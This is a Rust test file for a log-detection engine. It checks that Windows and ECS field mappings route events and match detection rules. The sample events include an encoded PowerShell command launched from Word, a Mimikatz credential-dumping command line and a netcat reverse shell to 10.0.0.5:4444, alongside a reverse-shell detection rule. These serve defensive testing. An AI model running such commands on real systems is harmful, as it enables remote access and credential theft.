#![allow(clippy::unwrap_used)] // test code: a panic is the failure report

//! The shipped mappings route logsources and resolve fields as a user
//! of each event layout expects (uses only data in this repository).

use std::path::Path;

use warden_detect::{Engine, Mapping, event};

mod flat;
use flat::flatten;

fn starter(mapping: &str) -> Engine {
    let mut b = Engine::builder().mapping(Mapping::builtin(mapping).unwrap().unwrap());
    b.add_path(&Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/packs"))
        .unwrap();
    let e = b.build();
    // The pack holds rules for several platforms; only those the mapping
    // does not cover may be rejected.
    assert!(
        e.rejections()
            .iter()
            .all(|r| r.reason.contains("is not covered by mapping")),
        "{:?}",
        e.rejections()
    );
    e
}

fn titles(e: &Engine, json: &str) -> Vec<String> {
    let v = event::parse(json.as_bytes()).unwrap();
    let mut sc = e.scratch();
    let mut hits = Vec::new();
    e.detect(&v.doc(), &mut sc, &mut hits);
    hits.iter().map(|h| h.rule.meta.title.clone()).collect()
}

#[test]
fn windows_security_4688_uses_its_field_names() {
    let e = starter("windows");
    let ev = r#"{"Event":{"System":{"EventID":4688,"Channel":"Security","Computer":"WS1"},
        "EventData":{"NewProcessName":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "ParentProcessName":"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        "CommandLine":"powershell.exe -nop -enc SQBFAFgA"}}}"#;
    let t = titles(&e, ev);
    assert!(
        t.contains(&"Office Application Spawning a Shell".to_string()),
        "{t:?}"
    );
    assert!(
        t.contains(&"Encoded PowerShell Command Line".to_string()),
        "{t:?}"
    );
    // The same data on another channel is not a process creation.
    let other = ev.replace("\"Security\"", "\"Application\"");
    assert!(titles(&e, &other).is_empty());
}

#[test]
fn windows_evtx_text_nodes_read_as_values() {
    let e = starter("windows");
    // evtx_dump renders some values as {"#text": ..., "#attributes": ...}.
    let ev = r##"{"Event":{"System":{"EventID":{"#text":4625,"#attributes":{"Qualifiers":0}},"Channel":"Security"},
        "EventData":{"TargetUserName":"Administrator","LogonType":3}}}"##;
    assert_eq!(
        titles(&e, ev),
        vec!["Failed Network Logon for a Built-in Administrator"]
    );
}

#[test]
fn windows_flat_events_raise_what_their_nested_form_raises() {
    let e = starter("windows");
    let sample =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/data/windows-sample.jsonl");
    let text = std::fs::read_to_string(sample).unwrap();
    let mut alerts = 0;
    for (i, line) in text.lines().enumerate() {
        // The sample holds a malformed line on purpose (the CLI reports it).
        let Ok(nested) = serde_json::from_str::<serde_json::Value>(line) else {
            continue;
        };
        let flat = flatten(&nested).to_string();
        assert!(!flat.contains("\"Event\":{"), "line {}: {flat}", i + 1);
        let mut want = titles(&e, line);
        let mut got = titles(&e, &flat);
        want.sort();
        got.sort();
        assert_eq!(got, want, "line {}: {flat}", i + 1);
        alerts += want.len();
    }
    assert!(alerts >= 5, "the sample raises {alerts} alerts");
    // NXLog's names for the provider and host route and match too.
    let nxlog = r#"{"SourceName":"Microsoft-Windows-Security-Auditing","Hostname":"WS1","Channel":"Security",
        "EventID":4688,"NewProcessName":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "ParentProcessName":"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        "CommandLine":"powershell.exe -nop -enc SQBFAFgA"}"#;
    let t = titles(&e, nxlog);
    assert!(
        t.contains(&"Office Application Spawning a Shell".to_string()),
        "{t:?}"
    );
    // Routing still decides: the same flat data on another channel raises nothing.
    assert!(titles(&e, &nxlog.replace("\"Security\"", "\"Application\"")).is_empty());
}

#[test]
fn ecs_winlogbeat_sysmon_process_creation() {
    let e = starter("ecs");
    let ev = r#"{"@timestamp":"2026-11-20T10:00:00Z","host":{"name":"ws1","os":{"type":"windows"}},
        "winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":"1"},
        "process":{"executable":"C:\\Users\\Public\\m.exe","command_line":"m.exe privilege::debug sekurlsa::logonpasswords",
        "parent":{"executable":"C:\\Windows\\System32\\cmd.exe"}}}"#;
    assert_eq!(titles(&e, ev), vec!["Credential Dumping Tool Command Line"]);
    // A Sysmon network event carrying the same text is not a process creation.
    let net = ev.replace(r#""event_id":"1""#, r#""event_id":"3""#);
    assert!(titles(&e, &net).is_empty());
}

/// Alerts (title, matched field values) of `rules` (one selection each,
/// named by title) on `json` under the shipped ecs mapping.
fn ecs_alerts(rules: &[(&str, &str, &str)], json: &str) -> Vec<(String, Vec<String>)> {
    let mut b = Engine::builder().mapping(Mapping::builtin("ecs").unwrap().unwrap());
    for (i, (title, logsource, sel)) in rules.iter().enumerate() {
        let r = format!(
            "title: {title}\nid: 00000000-0000-4000-8000-{i:012}\nlogsource: {logsource}\n\
             detection:\n  sel:\n    {sel}\n  condition: sel\n"
        );
        b.add_yaml(&r, Path::new("inline.yml")).unwrap();
    }
    let e = b.build();
    assert!(e.rejections().is_empty(), "{:?}", e.rejections());
    let v = event::parse(json.as_bytes()).unwrap();
    let mut sc = e.scratch();
    let mut hits = Vec::new();
    e.detect(&v.doc(), &mut sc, &mut hits);
    hits.iter()
        .map(|h| {
            let m = h.matched.iter().map(|m| format!("{}={}", m.field, m.value));
            (h.rule.meta.title.clone(), m.collect())
        })
        .collect()
}

/// Values Elastic's Sysmon and PowerShell pipelines rewrite (shapes as in
/// their own test output) still meet rules written against the Windows
/// values, and an alert names the value as the rule saw it.
#[test]
fn ecs_reads_values_elastic_rewrites_as_windows_wrote_them() {
    let sysmon = |id: u32, rest: &str| {
        format!(
            r#"{{"winlog":{{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":"{id}"}},{rest}}}"#
        )
    };
    let net = "{product: windows, category: network_connection}";
    let rules = [
        ("outbound", net, "Initiated: 'true'"),
        ("inbound", net, "Initiated: 'false'"),
        ("v6", net, "SourceIsIpv6: 'true'"),
    ];
    let egress = sysmon(
        3,
        r#""network":{"direction":"egress","type":"ipv6","transport":"udp"}"#,
    );
    assert_eq!(
        ecs_alerts(&rules, &egress),
        [
            ("outbound".to_string(), vec!["Initiated=true".to_string()]),
            ("v6".to_string(), vec!["SourceIsIpv6=true".to_string()])
        ]
    );
    let ingress = egress.replace("egress", "ingress").replace("ipv6", "ipv4");
    assert_eq!(ecs_alerts(&rules, &ingress)[0].0, "inbound");
    // Events shipped without the pipeline keep the raw field.
    let raw = r#"{"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":"3",
        "event_data":{"Initiated":"true"}}}"#;
    assert_eq!(ecs_alerts(&rules, raw)[0].0, "outbound");

    let reg = "{product: windows, category: registry_set}";
    let rules = [
        ("dword", reg, "Details: 'DWORD (0x00000004)'"),
        ("hex", reg, "Details: 'DWORD (0x000000ff)'"),
        ("qword", reg, "Details: 'QWORD (0x00000000-0x00000005)'"),
        ("binary", reg, "Details: 'Binary Data'"),
        ("four", reg, "Details: '4'"),
    ];
    let set = |strings: &str, ty: &str| {
        sysmon(
            13,
            &format!(
                r#""registry":{{"path":"HKLM\\SOFTWARE\\x","data":{{"strings":["{strings}"],"type":"{ty}"}}}}"#
            ),
        )
    };
    let t = |ev: &str| -> Vec<String> { ecs_alerts(&rules, ev).into_iter().map(|a| a.0).collect() };
    assert_eq!(
        ecs_alerts(&rules, &set("4", "SZ_DWORD")),
        [(
            "dword".to_string(),
            vec!["Details=DWORD (0x00000004)".to_string()]
        )]
    );
    // Elastic Defend: REG_DWORD, in decimal or hexadecimal.
    assert_eq!(t(&set("255", "REG_DWORD")), ["hex"]);
    assert_eq!(t(&set("0x000000FF", "REG_DWORD")), ["hex"]);
    assert_eq!(t(&set("5", "SZ_QWORD")), ["qword"]);
    assert_eq!(t(&set("Binary Data", "REG_BINARY")), ["binary"]);
    assert_eq!(t(&set("4", "REG_SZ")), ["four"]);

    let proc = "{product: windows, category: process_creation}";
    let img = "{product: windows, category: image_load}";
    let rules = [
        ("system", proc, r"User|endswith: '\SYSTEM'"),
        ("exact", proc, r"User: 'NT AUTHORITY\SYSTEM'"),
        (
            "imphash",
            img,
            "Hashes|contains: 'IMPHASH=194F37C4A6E4A4B1E8D0A1A2B3C4D5E6'",
        ),
        ("sha1", img, "Hashes|startswith: 'SHA1=9955A1'"),
    ];
    let p1 = sysmon(
        1,
        r#""user":{"domain":"NT AUTHORITY","name":"SYSTEM"},"process":{"executable":"C:\\x.exe"}"#,
    );
    let got = ecs_alerts(&rules, &p1);
    assert_eq!(
        got.iter().map(|a| a.0.as_str()).collect::<Vec<_>>(),
        ["system", "exact"]
    );
    assert_eq!(got[0].1, [r"User=NT AUTHORITY\SYSTEM"]);
    let i7 = sysmon(
        7,
        r#""file":{"path":"C:\\a.dll","hash":{"sha1":"9955a1ffff","md5":"c7c456"},"pe":{"imphash":"194f37c4a6e4a4b1e8d0a1a2b3c4d5e6"}}"#,
    );
    let got = ecs_alerts(&rules, &i7);
    assert_eq!(got.len(), 2, "{got:?}");
    assert_eq!(
        got[0].1,
        ["Hashes=SHA1=9955A1FFFF,MD5=C7C456,IMPHASH=194F37C4A6E4A4B1E8D0A1A2B3C4D5E6"]
    );

    let ps = r#"{"winlog":{"channel":"Microsoft-Windows-PowerShell/Operational","event_id":"4103"},
        "process":{"command_line":"C:\\Windows\\system32\\wsmprovhost.exe -Embedding","title":"ServerRemoteHost"},
        "powershell":{"command":{"name":"Out-Null","invocation_details":[
          {"related_command":"Get-ItemProperty","type":"CommandInvocation","value":"\"Get-ItemProperty\""},
          {"name":"\"Path\"","related_command":"Get-ItemProperty","type":"ParameterBinding","value":"\"(get-location).path\""}]}}}"#;
    let rules = [
        (
            "remoting",
            "{product: windows, category: ps_module}",
            r"ContextInfo|contains: '= C:\Windows\system32\wsmprovhost.exe'",
        ),
        (
            "cmd",
            "{product: windows, category: ps_module}",
            "ContextInfo|contains: 'Command Name = Out-Null'",
        ),
        // Payload lines rebuilt from the invocation details, each
        // object's members together.
        (
            "evil-winrm",
            "{product: windows, category: ps_module}",
            r#"Payload|contains: 'value="(get-location).path'"#,
        ),
        (
            "lines",
            "{product: windows, category: ps_module}",
            r#"Payload|re: '^CommandInvocation\(Get-ItemProperty\): "Get-ItemProperty"\nParameterBinding\(Get-ItemProperty\): name="Path"; value="'"#,
        ),
    ];
    let got = ecs_alerts(&rules, ps);
    assert_eq!(got.len(), 4, "{got:?}");
}

#[test]
fn ecs_linux_process_start_from_elastic_agent() {
    let mut b = Engine::builder().mapping(Mapping::builtin("ecs").unwrap().unwrap());
    b.add_yaml(
        "title: Netcat reverse shell\nid: 6b1a7f0e-1d2c-4e3f-8a9b-0c1d2e3f4a5b\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel:\n    Image|endswith: '/nc'\n    CommandLine|contains: ' -e '\n  condition: sel\n",
        Path::new("inline.yml"),
    )
    .unwrap();
    let e = b.build();
    // The pack holds rules for several platforms; only those the mapping
    // does not cover may be rejected.
    assert!(
        e.rejections()
            .iter()
            .all(|r| r.reason.contains("is not covered by mapping")),
        "{:?}",
        e.rejections()
    );
    let ev = r#"{"event":{"category":["process"],"type":["start"]},"host":{"os":{"type":"linux"}},
        "process":{"executable":"/usr/bin/nc","command_line":"nc 10.0.0.5 4444 -e /bin/sh"}}"#;
    assert_eq!(titles(&e, ev), vec!["Netcat reverse shell"]);
    let windows = ev.replace(r#""type":"linux""#, r#""type":"windows""#);
    assert!(titles(&e, &windows).is_empty());
    // A routing value inside an array counts wherever it stands.
    let multi = ev.replace(r#""type":["start"]"#, r#""type":["info","start"]"#);
    assert_ne!(multi, ev);
    assert_eq!(titles(&e, &multi), vec!["Netcat reverse shell"]);
    let neither = ev.replace(r#""type":["start"]"#, r#""type":["info","end"]"#);
    assert!(titles(&e, &neither).is_empty());
}

#[test]
fn uncovered_logsource_is_rejected_with_reason() {
    let mut b = Engine::builder().mapping(Mapping::builtin("windows").unwrap().unwrap());
    b.add_yaml(
        "title: t\nid: x\nlogsource: {product: zeek, category: dns}\ndetection:\n  sel:\n    query: a\n  condition: sel\n",
        Path::new("zeek.yml"),
    )
    .unwrap();
    let e = b.build();
    assert_eq!(e.rules().len(), 0);
    assert!(
        e.rejections()[0]
            .reason
            .contains("not covered by mapping 'windows'"),
        "{:?}",
        e.rejections()
    );
}

#[test]
fn aliases_take_the_longest_prefix_and_bad_ones_are_named() {
    let yaml = r#"
name: t
fields:
  Host: a.b.host
default_paths: ["a.c.{field}"]
aliases:
  "a.": ""
  "a.b.host": [hostname, h]
logsources:
  - name: x
    logsource: {product: p}
    conditions: {a.kind: k}
"#;
    let m = Mapping::parse(yaml, Path::new("t.yml")).unwrap();
    assert_eq!(m.field_paths(0, "Host"), vec!["a.b.host", "hostname", "h"]);
    assert_eq!(m.field_paths(0, "User"), vec!["a.c.User", "c.User"]);
    assert_eq!(m.logsources[0].conditions[0].paths, vec!["a.kind", "kind"]);
    let bad = yaml.replace("[hostname, h]", "{x: 1}");
    let err = Mapping::parse(&bad, Path::new("t.yml"))
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("t.yml") && err.contains("alias 'a.b.host'"),
        "{err}"
    );
}

/// Routing values compare case-insensitively the way field values do: a
/// word-final sigma in the mapping or in the event does not stop routing.
#[test]
fn routing_values_fold_case_like_field_values() {
    let yaml = r#"
name: t
fields: {}
logsources:
  - name: x
    logsource: {product: p}
    conditions: {Channel: 'ΑΡΧΕΙΟΣ'}
"#;
    let mut b = Engine::builder().mapping(Mapping::parse(yaml, Path::new("t.yml")).unwrap());
    b.add_yaml(
        "title: r\nlogsource: {product: p}\ndetection:\n  sel: {User: x}\n  condition: sel\n",
        Path::new("r.yml"),
    )
    .unwrap();
    let e = b.build();
    assert!(e.rejections().is_empty(), "{:?}", e.rejections());
    for channel in ["ΑΡΧΕΙΟΣ", "αρχειος", "αρχειοσ", "Αρχειος"] {
        let ev = format!(r#"{{"Channel": "{channel}", "User": "X"}}"#);
        assert_eq!(titles(&e, &ev), ["r"], "{channel}");
    }
    assert!(titles(&e, r#"{"Channel": "ΑΡΧΕΙΟ", "User": "x"}"#).is_empty());
}

#[test]
fn bad_derived_values_are_named_with_their_file() {
    let yaml = r#"
name: t
fields:
  Initiated: [a.Initiated, 'derived:dir']
derived:
  dir: {template: '{a.direction}', values: {egress: 'true'}}
logsources:
  - name: x
    logsource: {product: p}
    conditions: {a.kind: k}
"#;
    assert!(Mapping::parse(yaml, Path::new("t.yml")).is_ok());
    let err = |from: &str, to: &str| {
        let bad = yaml.replace(from, to);
        assert_ne!(bad, yaml);
        Mapping::parse(&bad, Path::new("t.yml"))
            .unwrap_err()
            .to_string()
    };
    let e = err("'derived:dir'", "'derived:nope'");
    assert!(
        e.contains("t.yml") && e.contains("field 'Initiated': 'derived:nope' names no value"),
        "{e}"
    );
    let e = err("{a.direction}'", "{a.direction|hex}'");
    assert!(
        e.contains(
            "derived 'dir': template '{a.direction|hex}': unknown conversion 'hex' at offset 13"
        ),
        "{e}"
    );
    let e = err("{a.kind: k}", "{'derived:dir': k}");
    assert!(e.contains("a condition cannot read a derived value"), "{e}");
    let e = err(
        "logsources:",
        "indicators: {ip: ['derived:dir']}\nlogsources:",
    );
    assert!(e.contains("indicators: 'derived:dir'"), "{e}");
    let e = err("values: {egress: 'true'}", "each_join: ','");
    assert!(e.contains("'each_join' needs 'each'"), "{e}");
}
